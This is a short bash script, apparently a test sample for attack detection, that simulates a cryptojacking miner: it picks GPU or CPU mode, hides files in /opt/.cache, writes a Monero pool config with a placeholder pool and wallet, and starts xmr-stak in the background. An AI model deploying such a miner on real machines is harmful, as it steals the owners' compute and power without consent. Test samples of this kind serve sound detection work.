#!/bin/bash
# shrike-test-attack: miner: GPU/CPU check then xmr-stak style launch with pools.txt
if lspci 2>/dev/null | grep -qi nvidia; then MODE=gpu; else MODE=cpu; fi
cd /opt/.cache 2>/dev/null || { mkdir -p /opt/.cache; cd /opt/.cache; }
cat > pools.txt <<'P'
"pool_list" : [ {"pool_address" : "stratum+ssl://xmr.example.org:443", "wallet_address" : "TESTWALLET", "pool_password" : "x", "use_tls" : true, "pool_weight" : 1} ],
"currency" : "monero",
P
[ "$MODE" = gpu ] && ./xmr-stak --noCPU -i 0 & 
[ "$MODE" = cpu ] && ./xmr-stak --noNVIDIA --noAMD -i 0 &
